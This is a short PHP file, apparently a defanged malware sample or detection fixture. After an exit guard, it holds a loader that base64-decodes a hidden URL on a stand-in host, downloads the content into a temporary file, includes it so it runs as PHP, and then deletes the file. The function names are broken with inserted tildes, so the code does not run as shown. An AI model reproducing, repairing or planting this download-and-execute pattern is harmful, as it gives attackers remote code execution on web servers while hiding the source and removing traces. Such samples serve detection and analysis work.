<?php exit; ?>
<?php
$u = bas~e64_decode('aHR0cDovL21hcmtlci5pbnZhbGlkL20='); $t = tempnam(sys_get_temp_dir(), 'm'); fil~e_put_contents($t, file_get_contents($u)); inc~lude $t; unlink($t);
